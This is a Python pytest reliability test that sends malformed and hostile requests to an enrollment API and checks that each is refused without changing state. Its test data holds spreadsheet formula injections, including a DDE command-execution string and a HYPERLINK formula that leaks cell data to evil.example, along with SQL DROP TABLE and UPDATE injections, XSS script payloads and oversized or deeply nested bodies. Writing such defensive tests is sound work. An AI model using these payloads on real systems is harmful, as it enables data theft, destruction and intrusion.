"""Scenario 5: malformed and hostile input over HTTP changes nothing and breaks nothing.

Against a running stack that already holds a small funded, active cohort, each request below is
sent as the role that may make it: broken CSV, binary garbage, wrong encodings, 50 MB bodies,
spreadsheet formulas, SQL and HTML in names, oversized fields, unknown columns, JSON that is not
an object or is nested 100,000 deep, hostile batch steps and queries. Each must be answered
with a clear 4xx ``application/problem+json`` or, for row-level problems, a 200 whose every row
is rejected with a field error; never a 5xx, and quickly. Afterwards every enrollment, its
state, the budget ledger, the audit chain, the BPJS registrations and the number of
Temporal workflows are exactly as before, nothing formula- or markup-like is stored, and the
API still answers ``/readyz`` 200 from the same process.
"""

from __future__ import annotations

import codecs
import io
import json
import os
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import openpyxl
import pytest

from domain.worker_rows import WorkerRow
from tests.reliability.conftest import Record
from tests.reliability.stack import Keys, Stack, village_lists, worker_json

pytestmark = [pytest.mark.reliability, pytest.mark.stack]

PROGRAM = "REL-HOSTILE"
BASELINE = 6
MB = 1024 * 1024
HEADER = "nik,full_name,birth_date,gender,category\n"
QUICK_S = 10.0  # every answer, even to a 50 MB body


@dataclass
class World:
    stack: Stack
    keys: Keys
    village: str
    rows: list[WorkerRow]  # valid people who were never nominated
    baseline: dict[str, str] = field(default_factory=dict)  # nik -> enrollment id


@pytest.fixture(scope="module")
def world(sqlite_stack: Stack) -> Iterator[World]:
    """The shared stack with a funded, active baseline cohort of this scenario's own."""
    stack = sqlite_stack
    stack.reset_sim()
    lists = village_lists(BASELINE + 6, villages=1, seed=55)
    ((village, rows),) = lists.items()
    keys = stack.make_keys(lists)
    stack.create_program(keys, PROGRAM, ceiling_idr=10**9)
    accepted = stack.nominate_all(keys, PROGRAM, {village: rows[:BASELINE]})
    assert all(r["ok"] for r in stack.verify_village(keys, PROGRAM, village))
    approval = stack.approve_village(keys, PROGRAM, village)
    assert all(r["ok"] for r in approval["results"]), approval
    stack.wait_settled(keys.auditor, PROGRAM, expected=BASELINE, timeout_s=60)
    yield World(stack, keys, village, rows[BASELINE:], accepted)
    stack.check_alive()


# --- what "untouched" means -----------------------------------------------------------------


def temporal_workflows(stack: Stack) -> int:
    """Enrollment workflows: a refused batch (a budget approval of enrollments already funded,
    say) runs a batch workflow of its own that changes no enrollment."""
    return stack.count_workflows("WorkflowType = 'EnrollmentWorkflow'")


def audit_rows(stack: Stack) -> list[tuple[Any, ...]]:
    return stack.sql(
        "SELECT id, action, enrollment_id, state_before, state_after FROM audit_event ORDER BY id"
    )


def snapshot(world: World) -> dict[str, Any]:
    stack, keys = world.stack, world.keys
    program = stack.call("GET", f"/v1/programs/{PROGRAM}", keys.auditor).json()
    chain = stack.audit_verify(keys)
    return {
        "enrollments": sorted(
            (e["id"], e["state"], e["full_name"], e["kpj_number"])
            for e in stack.enrollments(keys.auditor, PROGRAM)
        ),
        "enrollment_rows": stack.sql("SELECT count(*) FROM enrollment")[0][0],
        "ledger": stack.sql(
            "SELECT id, approval_id, enrollment_id, amount_idr, released_at FROM commitment"
        ),
        "committed_idr": [s["committed_idr"] for s in program["funding_sources"]],
        "audit_chain_ok": chain["ok"],
        "bpjs_registrations": stack.sim_counts()["total"],
        "temporal_workflows": temporal_workflows(stack),
        "api_pids": [p.pid for p in stack.apis],
    }


# --- the hostile requests -------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    send: Callable[[World], httpx.Response]
    # "problem": a 4xx problem+json (status in ``statuses`` when given);
    # "rows": a 200 whose rows are all rejected, each with an error on one of ``fields``.
    expect: str
    statuses: frozenset[int] = frozenset()
    fields: frozenset[str] = frozenset()


def _nominations(world: World) -> str:
    return f"{world.stack.api_url}/v1/programs/{PROGRAM}/nominations"


def upload(
    data: bytes, filename: str = "daftar.csv", mime: str = "text/csv"
) -> Callable[[World], httpx.Response]:
    def send(world: World) -> httpx.Response:
        return world.stack.http.post(
            _nominations(world),
            headers=world.stack.auth(world.keys.operators[world.village]),
            data={"village_code": world.village},
            files={"file": (filename, data, mime)},
        )

    return send


def raw(
    body: bytes | Callable[[World], bytes | Iterator[bytes]],
    content_type: str = "application/json",
    *,
    path: str = "",
    role: str = "operator",
) -> Callable[[World], httpx.Response]:
    def send(world: World) -> httpx.Response:
        key = (
            world.keys.operators[world.village] if role == "operator" else getattr(world.keys, role)
        )
        url = world.stack.api_url + path if path else _nominations(world)
        content = body(world) if callable(body) else body
        headers = {**world.stack.auth(key), "Content-Type": content_type}
        return world.stack.http.post(url, headers=headers, content=content)

    return send


def workers(**changes: Any) -> Callable[[World], httpx.Response]:
    """A JSON list of one otherwise valid, never nominated person, with ``changes``."""

    def send(world: World) -> httpx.Response:
        row = {**worker_json(world.rows[0]), **changes}
        return world.stack.http.post(
            _nominations(world),
            headers=world.stack.auth(world.keys.operators[world.village]),
            json={"village_code": world.village, "workers": [row]},
        )

    return send


def as_role(method: str, path: str, role: str, **kwargs: Any) -> Callable[[World], httpx.Response]:
    def send(world: World) -> httpx.Response:
        key = getattr(world.keys, role)
        return world.stack.http.request(
            method, world.stack.api_url + path, headers=world.stack.auth(key), **kwargs
        )

    return send


def csv_row(row: WorkerRow, **changes: str) -> str:
    values = {**worker_json(row), **changes}
    return ",".join(values[k] for k in ("nik", "full_name", "birth_date", "gender", "category"))


def formula_workbook(rows: list[WorkerRow]) -> bytes:
    """Cells that a spreadsheet would run: text starting with = + - @, and a real formula."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["nik", "full_name", "birth_date", "gender", "category"])
    names = [
        '=HYPERLINK("http://evil.example/?"&A2,"klik")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    for number, (row, name) in enumerate(zip(rows, names, strict=False), start=2):
        sheet.append([row.nik, name, row.birth_date, row.gender, row.category])
        sheet.cell(row=number, column=2).data_type = "s"  # stored as text, not as a formula
    last = rows[len(names)]
    sheet.append([last.nik, "=1+2", last.birth_date, last.gender, last.category])  # a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def fifty_mb_multipart(world: World) -> Iterator[bytes]:
    """50 MB streamed without a Content-Length (chunked), so the size check cannot be upfront."""
    yield (
        b"--b0undary\r\n"
        b'Content-Disposition: form-data; name="village_code"\r\n\r\n'
        + world.village.encode()
        + b"\r\n--b0undary\r\n"
        b'Content-Disposition: form-data; name="file"; filename="besar.csv"\r\n'
        b"Content-Type: text/csv\r\n\r\n"
    )
    for _ in range(50):
        yield b"z" * MB
    yield b"\r\n--b0undary--\r\n"


def fifty_mb_json(world: World) -> Iterator[bytes]:
    yield b'{"village_code": "' + world.village.encode() + b'", "workers": [{"full_name": "'
    for _ in range(50):
        yield b"A" * MB
    yield b'"}]}'


def cases(world: World) -> list[Case]:
    r = world.rows
    utf8 = HEADER + csv_row(r[0]) + "\n"
    fifty = b"x" * (50 * MB)
    deep = 100_000
    wrong = "P" if r[0].gender == "L" else "L"
    active = sorted(world.baseline.values())[0]
    return [
        Case(
            "csv_unbalanced_quotes",
            # The quote opened in row 2 never closes: row 3 is swallowed into row 2's name.
            upload(
                (
                    HEADER
                    + csv_row(r[0], full_name=f'"{r[0].full_name}')
                    + "\n"
                    + csv_row(r[1])
                    + "\n"
                ).encode()
            ),
            "rows",
            fields=frozenset({"full_name", "birth_date", "gender", "category"}),
        ),
        Case("csv_binary_garbage", upload(os.urandom(64 * 1024)), "problem", frozenset({422})),
        Case(
            "csv_utf16_without_bom",
            upload(utf8.encode("utf-16-le")),
            "problem",
            frozenset({422}),
        ),
        Case(
            "csv_utf16_bom_then_garbage",
            upload(codecs.BOM_UTF16_LE + b"\x00\xd8" * 100),
            "problem",
            frozenset({422}),
        ),
        Case(
            # Read as Windows-1252 with a warning; the row itself is wrong (NIK says male).
            "csv_cp1252",
            upload(
                (HEADER + csv_row(r[0], full_name="Andrés Müller", gender=wrong)).encode("cp1252")
            ),
            "rows",
            fields=frozenset({"gender", "nik"}),
        ),
        Case(
            "csv_nul_bytes", upload(utf8.replace("a", "\x00").encode()), "problem", frozenset({422})
        ),
        Case("xlsx_not_a_zip", upload(b"PK\x03\x04" + os.urandom(4096), "daftar.xlsx"), "problem"),
        Case(
            "xlsx_formula_injection",
            upload(formula_workbook(r), "daftar.xlsx", "application/octet-stream"),
            "rows",
            fields=frozenset({"full_name"}),
        ),
        Case(
            "csv_formula_injection",
            upload((HEADER + csv_row(r[0], full_name="=cmd|' /C calc'!A0") + "\n").encode()),
            "rows",
            fields=frozenset({"full_name"}),
        ),
        Case(
            "csv_unknown_columns",
            upload(
                (
                    "nik,full_name,birth_date,gender,category,password,is_admin\n"
                    + csv_row(r[0], full_name="Budi <b>Admin</b>")
                    + ",hunter2,true\n"
                ).encode()
            ),
            "rows",
            fields=frozenset({"full_name"}),
        ),
        Case(
            "csv_no_known_columns",
            upload(b"foo,bar,baz\n1,2,3\n"),
            "problem",
            frozenset({422}),
        ),
        Case(
            "upload_50mb_with_length",
            upload(fifty, "besar.csv"),
            "problem",
            frozenset({413, 422}),
        ),
        Case(
            "upload_50mb_chunked",
            raw(fifty_mb_multipart, "multipart/form-data; boundary=b0undary"),
            "problem",
            frozenset({413, 422}),
        ),
        Case("json_50mb_chunked", raw(fifty_mb_json), "problem", frozenset({413, 422})),
        Case(
            "json_50mb_with_length",
            raw(b'{"village_code": "x", "workers": [{"full_name": "' + fifty + b'"}]}'),
            "problem",
            frozenset({413, 422}),
        ),
        Case(
            "name_sql",
            workers(full_name="Robert'); DROP TABLE enrollment;--"),
            "rows",
            fields=frozenset({"full_name"}),
        ),
        Case(
            "name_html",
            workers(full_name="<script>alert(document.cookie)</script>"),
            "rows",
            fields=frozenset({"full_name"}),
        ),
        Case(
            "name_10000_chars_json",
            workers(full_name="A" * 10_000),
            "problem",
            frozenset({422}),
        ),
        Case(
            "name_10000_chars_csv",
            upload((HEADER + csv_row(r[0], full_name="A" * 10_000) + "\n").encode()),
            "rows",
            fields=frozenset({"full_name"}),
        ),
        Case("nik_1000_digits", workers(nik="7" * 1000), "rows", fields=frozenset({"nik"})),
        Case(
            "nik_5000_digit_number",
            raw(
                lambda w: (
                    json.dumps({"village_code": w.village, "workers": ["NIK"]})
                    .replace('"NIK"', '{"nik": ' + "7" * 5000 + ', "full_name": "Budi"}')
                    .encode()
                )
            ),
            "problem",
            frozenset({422}),
        ),
        Case(
            "json_unknown_field",
            raw(
                lambda w: json.dumps(
                    {"village_code": w.village, "workers": [{}], "admin": 1}
                ).encode()
            ),
            "problem",
            frozenset({422}),
        ),
        Case("json_array_body", raw(b"[1, 2, 3]"), "problem", frozenset({422})),
        Case("json_string_body", raw(b'"workers"'), "problem", frozenset({422})),
        Case("json_null_body", raw(b"null"), "problem", frozenset({422})),
        Case(
            "json_invalid_utf8", raw(b'{"village_code": "\xff\xfe"}'), "problem", frozenset({422})
        ),
        Case(
            "json_nested_100000_deep",
            raw(
                lambda w: (
                    json.dumps({"village_code": w.village, "workers": "DEEP"})
                    .replace('"DEEP"', "[" * deep + "1" + "]" * deep)
                    .encode()
                )
            ),
            "problem",
            frozenset({400, 422}),
        ),
        Case(
            "json_nested_object_100000_deep",
            raw(('{"a":' * deep + "1" + "}" * deep).encode()),
            "problem",
            frozenset({400, 422}),
        ),
        Case("text_plain_body", raw(b"nik,full_name", "text/plain"), "problem", frozenset({415})),
        Case(
            "multipart_without_boundary",
            raw(b"--x\r\n", "multipart/form-data"),
            "problem",
            frozenset({400, 422}),
        ),
        Case(
            "multipart_two_files",
            lambda w: w.stack.http.post(
                _nominations(w),
                headers=w.stack.auth(w.keys.operators[w.village]),
                data={"village_code": w.village},
                files=[("file", ("a.csv", utf8.encode())), ("file", ("b.csv", utf8.encode()))],
            ),
            "problem",
            frozenset({400}),
        ),
        Case(
            "program_create_nested_100000_deep",
            raw(b'{"code": ' + b"[" * deep + b"]" * deep + b"}", path="/v1/programs", role="admin"),
            "problem",
            frozenset({400, 422}),
        ),
        Case(
            "budget_sql_in_source",
            as_role(
                "POST",
                f"/v1/programs/{PROGRAM}/budget-approvals",
                "budget",
                json={
                    "funding_source": "APBD'; DROP TABLE commitment;--",
                    "enrollment_ids": ["enr_' OR '1'='1"],
                },
            ),
            "problem",
            frozenset({409, 422}),
        ),
        Case(
            "budget_10000_ids",
            as_role(
                "POST",
                f"/v1/programs/{PROGRAM}/budget-approvals",
                "budget",
                json={"funding_source": "APBD", "enrollment_ids": [f"x{i}" for i in range(10_000)]},
            ),
            "problem",
            frozenset({422}),
        ),
        Case(
            "budget_ids_not_a_list",
            as_role(
                "POST",
                f"/v1/programs/{PROGRAM}/budget-approvals",
                "budget",
                json={"funding_source": "APBD", "enrollment_ids": {"$ne": None}},
            ),
            "problem",
            frozenset({422}),
        ),
        Case(
            "verification_deeply_nested",
            raw(
                b'{"approve": ' + b"[" * deep + b"]" * deep + b"}",
                path=f"/v1/programs/{PROGRAM}/verifications",
                role="verifier",
            ),
            "problem",
            frozenset({400, 422}),
        ),
        Case(
            # Refused by the workflow (not awaiting verification); the attempt may be audited.
            "verification_of_an_active_enrollment_sql_reason",
            lambda w: w.stack.http.post(
                f"{w.stack.api_url}/v1/enrollments/{active}/verification",
                headers=w.stack.auth(w.keys.verifier),
                json={"approve": True, "reason": "'); DROP TABLE audit_event;-- <script>"},
            ),
            "problem",
            frozenset({409}),
        ),
        Case(
            "budget_again_for_active_enrollments_markup_reason",
            as_role(
                "POST",
                f"/v1/programs/{PROGRAM}/budget-approvals",
                "budget",
                json={
                    "funding_source": "APBD",
                    "enrollment_ids": sorted(world.baseline.values()),
                    "reason": "<img src=x onerror=alert(1)>",
                },
            ),
            "problem",
            frozenset({409}),
        ),
        Case(
            "withdrawal_of_an_active_enrollment_sql_reason",
            lambda w: w.stack.http.post(
                f"{w.stack.api_url}/v1/enrollments/{active}/withdrawal",
                headers=w.stack.auth(w.keys.operators[w.village]),
                json={"reason": "x'; UPDATE enrollment SET state='withdrawn';--"},
            ),
            "problem",
            frozenset({409}),
        ),
        Case(
            "list_filter_sql",
            as_role("GET", "/v1/enrollments", "auditor", params={"program": "' OR 1=1 --"}),
            "empty",
        ),
        Case(
            "list_cursor_forged",
            as_role("GET", "/v1/enrollments", "auditor", params={"cursor": "//8="}),
            "problem",
            frozenset({422}),
        ),
        Case(
            "enrollment_id_sql",
            as_role("GET", "/v1/enrollments/%27%20OR%201%3D1%20--", "auditor"),
            "problem",
            frozenset({404}),
        ),
        Case(
            "coverage_nik_oversized",
            as_role(
                "POST", "/v1/coverage", "auditor", json={"nik": "9" * 5000, "on": "2025-10-01"}
            ),
            "problem",
            frozenset({422}),
        ),
        Case(
            "authorization_60k",
            lambda w: w.stack.http.get(
                f"{w.stack.api_url}/v1/enrollments",
                headers={"Authorization": "Bearer " + "a" * 60_000},
            ),
            "problem",
            frozenset({401, 431}),
        ),
    ]


def judge(case: Case, response: httpx.Response) -> list[str]:
    """What is wrong with the answer (nothing: an empty list)."""
    status = response.status_code
    problems: list[str] = []
    if status >= 500:
        return [f"{status}: {response.text[:300]}"]
    content_type = response.headers.get("content-type", "")
    if case.expect == "problem":
        if not 400 <= status < 500 or (case.statuses and status not in case.statuses):
            problems.append(f"status {status}, expected {sorted(case.statuses) or '4xx'}")
        if not content_type.startswith("application/problem+json"):
            problems.append(f"content-type {content_type}")
        else:
            body = response.json()
            if body.get("status") != status or not body.get("title") or not body.get("detail"):
                problems.append(f"not a problem document: {body}")
            if "Traceback" in response.text:
                problems.append("a stack trace in the answer")
    elif case.expect == "rows":
        if status != 200:
            return [f"status {status}, expected 200 with rejected rows: {response.text[:300]}"]
        body = response.json()
        if body["accepted"]:
            problems.append(f"rows accepted: {body['accepted']}")
        if not body["rejected"]:
            problems.append("no row rejected")
        for row in body["rejected"]:
            named = {e["field"] for e in row["errors"]}
            if not named & case.fields:
                problems.append(f"row {row['row']} rejected for {named}, expected {case.fields}")
    elif case.expect == "empty" and (status != 200 or response.json().get("items") != []):
        problems.append(f"{status}: {response.text[:300]}")
    return problems


def test_hostile_input_gets_a_clear_4xx_and_changes_nothing(world: World, record: Record) -> None:
    began = time.monotonic()
    stack = world.stack
    before = snapshot(world)
    audit_before = audit_rows(stack)
    outcomes: dict[str, dict[str, Any]] = {}
    wrong: dict[str, list[str]] = {}
    all_cases = cases(world)
    for case in all_cases:
        sent = time.monotonic()
        try:
            response = case.send(world)
        except httpx.HTTPError as exc:
            wrong[case.name] = [f"no answer: {type(exc).__name__}: {exc}"]
            continue
        seconds = time.monotonic() - sent
        outcomes[case.name] = {"status": response.status_code, "s": round(seconds, 2)}
        problems = judge(case, response)
        if seconds > QUICK_S:
            problems.append(f"answered after {seconds:.1f}s")
        if problems:
            wrong[case.name] = problems
        stack.check_alive()
    ready = stack.http.get(f"{stack.api_url}/readyz")
    after = snapshot(world)
    # A refused attempt on a real enrollment may be audited (who tried what): that is the only
    # row the log may gain, it changes no state, and the chain must still verify over it.
    audit_after = audit_rows(stack)
    added = audit_after[len(audit_before) :]
    chain_after = stack.audit_verify(world.keys)
    stored = stack.sql(
        "SELECT count(*) FROM enrollment WHERE full_name LIKE '=%' OR full_name LIKE '+%' "
        "OR full_name LIKE '-%' OR full_name LIKE '@%' OR full_name LIKE '%<%' "
        "OR full_name LIKE '%;%'"
    )[0][0]
    statuses = [o["status"] for o in outcomes.values()]
    record(
        "hostile_input",
        {
            "cases": len(all_cases),
            "answered_4xx": sum(1 for s in statuses if 400 <= s < 500),
            "answered_200_every_row_rejected": sum(
                1
                for c in all_cases
                if c.expect == "rows" and outcomes.get(c.name, {}).get("status") == 200
            ),
            "answered_200_empty_list": sum(
                1
                for c in all_cases
                if c.expect == "empty" and outcomes.get(c.name, {}).get("status") == 200
            ),
            "answered_5xx": sum(1 for s in statuses if s >= 500),
            "unanswered_or_wrong": len(wrong),
            "slowest_s": max((o["s"] for o in outcomes.values()), default=0),
            "statuses": {name: o["status"] for name, o in outcomes.items()},
            "state_unchanged": before == after,
            "baseline_enrollments": len(before["enrollments"]),
            "ledger_rows": len(before["ledger"]),
            "audit_events_before": len(audit_before),
            "audit_refusals_added": len(added),
            "audit_chain_after": chain_after,
            "temporal_workflows": before["temporal_workflows"],
            "formula_or_markup_names_stored": stored,
            "readyz_after": ready.status_code,
            "total_s": round(time.monotonic() - began, 1),
        },
    )
    assert not wrong, json.dumps(wrong, indent=2)
    assert before == after, {k: (before[k], after[k]) for k in before if before[k] != after[k]}
    assert stored == 0
    assert audit_after[: len(audit_before)] == audit_before
    for _, action, enrollment_id, state_before, state_after in added:
        assert action.startswith("refused_"), added
        assert enrollment_id in world.baseline.values() and state_before == state_after, added
    assert chain_after == {"ok": True, "checked": len(audit_after), "first_broken": None}
    assert ready.status_code == 200


def test_a_name_with_a_nul_byte_is_rejected_per_row(world: World) -> None:
    response = workers(full_name="Budi\x00Santoso")(world)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["accepted"] == [], body
    assert {e["field"] for r in body["rejected"] for e in r["errors"]} == {"full_name"}
